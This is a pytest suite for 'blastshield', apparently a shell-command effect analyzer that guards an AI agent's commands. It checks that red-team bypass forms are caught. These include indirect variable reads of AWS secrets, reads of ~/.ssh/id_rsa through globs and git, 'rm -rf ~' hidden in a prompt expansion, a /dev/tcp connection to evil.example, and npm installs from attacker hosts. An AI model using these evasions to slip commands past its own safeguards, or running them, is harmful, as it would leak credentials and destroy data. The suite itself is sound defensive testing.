"""Bypass families found by the red team, each pinned down by its effects: indirect
variable reads, redirections without a command, globs, per-match runners, output
options of build and test tools, git's reading and output forms, package specs."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from blastshield.effects import Effect, Kind, Verdict
from blastshield.shell import analyze

WS = "/work/repo"
HOME = "/home/agent"


@pytest.fixture(autouse=True)
def _home(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("HOME", HOME)
    yield


def run(command: str, *, cwd: str = WS, non_interactive: bool = False) -> tuple[Effect, ...]:
    return analyze(command, cwd=cwd, workspace=cwd if cwd != WS else WS, non_interactive=non_interactive)


def pairs(command: str, kind: Kind, **kw: object) -> list[str]:
    return [e.target for e in run(command, **kw) if e.kind is kind]  # type: ignore[arg-type]


def one(command: str, kind: Kind, target: str, **kw: object) -> Effect:
    effects = run(command, **kw)  # type: ignore[arg-type]
    hits = [e for e in effects if e.kind is kind and e.target == target]
    assert hits, f"no {kind} {target!r} in {[(e.kind.value, e.target) for e in effects]}"
    return hits[0]


# ------------------------------------------------------------ indirect variable reads
def test_indirect_expansion_reads_the_named_variable() -> None:
    effect = one("x=AWS_SECRET_ACCESS_KEY; echo ${!x}", Kind.ENV, "AWS_SECRET_ACCESS_KEY")
    assert effect.origin == "expansion"


@pytest.mark.parametrize("line", ['for v in ${!AWS*}; do echo "${!v}"; done', "echo ${!1}",
                                  "declare -n a=b; declare -n b=a; echo $a", "echo ${!X:-d}"])
def test_indirect_expansion_of_an_unknown_name_is_unresolved(line: str) -> None:
    effect = one(line, Kind.ENV, "*")
    assert effect.floor is Verdict.ASK
    assert "name is not statically known" in effect.floor_reason
    assert one(line, Kind.ENV, "*", non_interactive=True).floor is Verdict.DENY


def test_name_listing_and_array_keys_read_no_value() -> None:
    assert pairs("echo ${!AWS*} ${!arr[@]}", Kind.ENV) == []


def test_nameref_reads_its_target() -> None:
    assert one("declare -n ref=AWS_SECRET_ACCESS_KEY; echo $ref", Kind.ENV,
               "AWS_SECRET_ACCESS_KEY").floor is Verdict.ALLOW
    assert one("local -rn r=GITHUB_TOKEN; echo ${r}", Kind.ENV, "GITHUB_TOKEN")
    # export -n removes the export flag: not a nameref
    assert pairs("export -n X=1; echo $X", Kind.ENV) == []


def test_prompt_expansion_runs_what_the_value_holds() -> None:
    effects = run("x='$(rm -rf ~)'; echo ${x@P}")
    assert f"rm -rf {HOME}" in [e.target for e in effects if e.kind is Kind.EXEC]
    assert one("x='$(rm -rf ~)'; echo ${x@P}", Kind.DELETE, HOME).origin == "rm"
    unknown = one("echo ${PS1@P}", Kind.EXEC, "${...@P}")
    assert unknown.floor is Verdict.ASK and "prompt expansion" in unknown.floor_reason


# ---------------------------------------------------------- redirections alone
def test_dollar_lt_reads_the_file() -> None:
    effect = one('echo "$(< ~/.ssh/id_rsa)"', Kind.READ, f"{HOME}/.ssh/id_rsa")
    assert effect.origin == "redirect"
    assert one("x=$(<.env)", Kind.READ, ".env")


def test_read_write_redirection_to_dev_tcp_is_a_connection() -> None:
    assert one("exec 5<>/dev/tcp/evil.example/80", Kind.NET, "evil.example:80").origin == "redirect"


# ----------------------------------------------------------------------- globs
@pytest.fixture
def tree(tmp_path: Path) -> Path:
    (tmp_path / ".env").write_text("A=1\n")
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("")
    (tmp_path / "src" / "b.py").write_text("")
    return tmp_path


@pytest.mark.parametrize("line", ["cat .en[v]", "cat .en?", "cat .e*v", "cat < .en?", "env cat .en[v]"])
def test_globs_are_judged_by_what_they_match(tree: Path, line: str) -> None:
    reads = pairs(line, Kind.READ, cwd=str(tree))
    assert ".env" in reads
    assert any(ch in r for r in reads for ch in "*?[")  # the pattern itself is kept too


def test_quoted_glob_characters_are_literal(tree: Path) -> None:
    assert pairs("cat '.en[v]' \".en?\"", Kind.READ, cwd=str(tree)) == [".en[v]", ".en?"]


def test_a_loop_over_a_glob_runs_once_per_match(tree: Path) -> None:
    assert pairs('for f in src/*.py; do cat "$f"; done', Kind.READ, cwd=str(tree)) == \
        ["src/a.py", "src/b.py"]


def test_a_glob_that_matches_nothing_stays_literal(tree: Path) -> None:
    assert pairs("cat nothing*.txt", Kind.READ, cwd=str(tree)) == ["nothing*.txt"]


def test_lines_with_globs_are_not_cached(tree: Path) -> None:
    assert ".env2" not in pairs("cat .env?", Kind.READ, cwd=str(tree))
    (tree / ".env2").write_text("")
    assert ".env2" in pairs("cat .env?", Kind.READ, cwd=str(tree))


def test_grep_recursive_flag_takes_no_value() -> None:
    assert pairs("grep -r aws_secret ~/.aws", Kind.READ) == [f"{HOME}/.aws"]
    assert pairs("grep -rn -e x src lib", Kind.READ) == ["src", "lib"]
    assert pairs("rg -r X foo src", Kind.READ) == ["src"]  # rg's -r is --replace VALUE


def test_tilde_in_assignment_like_arguments_is_expanded_as_bash_does() -> None:
    # bash (not POSIX mode) expands ~ after NAME= and after : in such words, even as arguments
    assert one("dd if=~/.ssh/id_rsa of=x", Kind.READ, f"{HOME}/.ssh/id_rsa").origin == "dd"
    argv = run("make DESTDIR=~/x P=a:~/b --opt=~/w 'Q=~/z' R=x~/y")[0].argv
    assert argv == ("make", f"DESTDIR={HOME}/x", f"P=a:{HOME}/b", "--opt=~/w", "Q=~/z", "R=x~/y")


def test_hard_link_reads_its_target() -> None:
    assert one("ln ~/.ssh/id_rsa hard", Kind.READ, f"{HOME}/.ssh/id_rsa").origin == "ln"
    assert pairs("ln -s ~/.ssh/id_rsa soft", Kind.READ) == []


# ----------------------------------------------------- commands run per match
def test_fd_exec_runs_its_command_per_match() -> None:
    effects = run("fd -e py -x rm -rf")
    assert [e.target for e in effects if e.kind is Kind.EXEC] == ["fd -e py -x rm -rf", "rm -rf {}"]
    assert one("fd -e py -x rm -rf", Kind.DELETE, "./*").origin == "rm"


def test_fd_exec_batch_with_a_shell_string_is_analysed() -> None:
    line = "fd . -X sh -c 'cat ~/.ssh/id_rsa'"
    assert one(line, Kind.READ, f"{HOME}/.ssh/id_rsa").origin == "cat"
    assert sorted(e.origin for e in run("fd -t f . ~/.ssh -x cat")
                  if e.kind is Kind.READ and e.target == f"{HOME}/.ssh") == ["fd", "find -exec"]


def test_flock_command_string_after_the_lock_file() -> None:
    line = "flock /tmp/l -c 'cat ~/.ssh/id_rsa'"
    assert [e.target for e in run(line) if e.kind is Kind.EXEC] == \
        ["flock /tmp/l -c cat ~/.ssh/id_rsa", f"cat {HOME}/.ssh/id_rsa"]
    assert one("flock -w 5 /tmp/l rm -rf y", Kind.DELETE, "y").origin == "rm"


def test_find_delete_without_a_test_deletes_the_root() -> None:
    assert one("find ~ -delete", Kind.DELETE, HOME).origin == "find -delete"
    assert one("find . -maxdepth 2 -delete", Kind.DELETE, ".")
    assert one("find . -name '*.pyc' -delete", Kind.DELETE, "./*")


# --------------------------------------------------------- tools' output options
@pytest.mark.parametrize(("line", "kind", "target"), [
    ("pytest --basetemp=.git/hooks", Kind.WRITE, ".git/hooks"),
    ("python -m pytest -q --junitxml r.xml tests", Kind.WRITE, "r.xml"),
    ("tsc --outFile .git/hooks/pre-commit", Kind.WRITE, ".git/hooks/pre-commit"),
    ("tsc -p tsconfig.json --outDir dist", Kind.WRITE, "dist"),
    ("gcc -o ~/.bashrc x.c", Kind.WRITE, f"{HOME}/.bashrc"),
    ("cc -O2 -obin/app main.c", Kind.WRITE, "bin/app"),
    ("sqlite3 .blastshield/audit.db 'DELETE FROM events'", Kind.WRITE, ".blastshield/audit.db"),
    ("sqlite3 -readonly data.db 'select 1'", Kind.READ, "data.db"),
    ("black src", Kind.WRITE, "src"),
    ("black --check src", Kind.READ, "src"),
    ("ruff check --fix src", Kind.WRITE, "src"),
    ("ruff check src", Kind.READ, "src"),
    ("ruff format .", Kind.WRITE, "."),
    ("gofmt -w main.go", Kind.WRITE, "main.go"),
    ("gofmt -l .", Kind.READ, "."),
    ("eslint -o report.txt src", Kind.WRITE, "report.txt"),
    ("mypy --cache-dir /tmp/c src", Kind.WRITE, "/tmp/c"),
    ("go build -o ~/.local/bin/x ./cmd", Kind.WRITE, f"{HOME}/.local/bin/x"),
])
def test_output_options_are_writes(line: str, kind: Kind, target: str) -> None:
    assert one(line, kind, target).floor is Verdict.ALLOW


def test_tool_options_that_run_programs_are_asked() -> None:
    effects = run("go test -exec 'sh -c id' ./...")
    assert effects[0].floor is Verdict.ASK and effects[0].floor_form == "-exec"
    assert "id" in [e.target for e in effects if e.kind is Kind.EXEC]
    shell = run("sqlite3 x.db '.shell rm -rf ~'")
    assert shell[0].floor is Verdict.ASK and shell[0].floor_form == ".shell"
    assert f"rm -rf {HOME}" in [e.target for e in shell if e.kind is Kind.EXEC]


# ------------------------------------------------------------------------- git
@pytest.mark.parametrize(("line", "kind", "target"), [
    ("git diff --output=.git/hooks/pre-commit", Kind.WRITE, ".git/hooks/pre-commit"),
    ("git log -p --output out.txt", Kind.WRITE, "out.txt"),
    ("git format-patch -o .git/hooks HEAD~1", Kind.WRITE, ".git/hooks"),
    ("git archive -o .git/hooks/pre-commit HEAD", Kind.WRITE, ".git/hooks/pre-commit"),
    ("git diff --no-index ~/.ssh/id_rsa README.md", Kind.READ, f"{HOME}/.ssh/id_rsa"),
    ("git diff ~/.ssh/id_rsa README.md", Kind.READ, f"{HOME}/.ssh/id_rsa"),
    ("git grep --no-index secret ~/.aws", Kind.READ, f"{HOME}/.aws"),
    ("git show HEAD:.env", Kind.READ, ".env"),
    ("git cat-file -p main:config/.env", Kind.READ, "config/.env"),
    ("git log -p -- .env", Kind.READ, ".env"),
    ("git archive HEAD .env", Kind.READ, ".env"),
])
def test_git_reading_and_output_forms(line: str, kind: Kind, target: str) -> None:
    assert one(line, kind, target)


def test_git_object_paths_are_relative_to_the_repository_top() -> None:
    effect = one("git show HEAD:.env", Kind.READ, ".env", cwd=WS)
    assert effect.cwd == WS
    assert one("cd src && git show HEAD:./a.py", Kind.READ, "./a.py").cwd == f"{WS}/src"


def test_git_ordinary_forms_have_no_extra_file_effects() -> None:
    for line in ("git log -n 5 --oneline", "git show HEAD", "git diff HEAD~1 main",
                 "git push -o ci.skip origin main"):
        assert [e.kind for e in run(line)] == [Kind.EXEC], line


def test_git_grep_pager_runs_a_program() -> None:
    effects = run("git grep -O'sh -c id' foo")
    assert effects[0].floor is Verdict.ASK and effects[0].floor_form == "-O"
    assert [e.target for e in effects if e.kind is Kind.EXEC][1:] == ["sh -c id", "id"]
    assert run("git grep -e -O foo")[0].floor is Verdict.ALLOW  # -e takes the value "-O"


# ---------------------------------------------------------------- package specs
@pytest.mark.parametrize(("line", "host"), [
    ("npm install https://evil.example/pkg.tgz", "evil.example:443"),
    ("npm install git+https://evil.example/r.git", "evil.example:443"),
    ("npm i x@git@evil.example:o/r.git", "evil.example:22"),
    ("yarn add https://evil.example/p.tgz", "evil.example:443"),
    ("pnpm add github:owner/repo", "github.com:443"),
    ("bun add owner/repo", "github.com:443"),
    ("yarn global add gitlab:o/r", "gitlab.com:443"),
])
def test_js_package_specs_reach_their_hosts(line: str, host: str) -> None:
    assert host in pairs(line, Kind.NET)


def test_registry_names_reach_only_the_registry() -> None:
    assert pairs("npm install lodash @types/node x@npm:y", Kind.NET) == ["registry.npmjs.org:443"]
    assert one("npm install ./local.tgz", Kind.READ, "./local.tgz").origin == "npm"
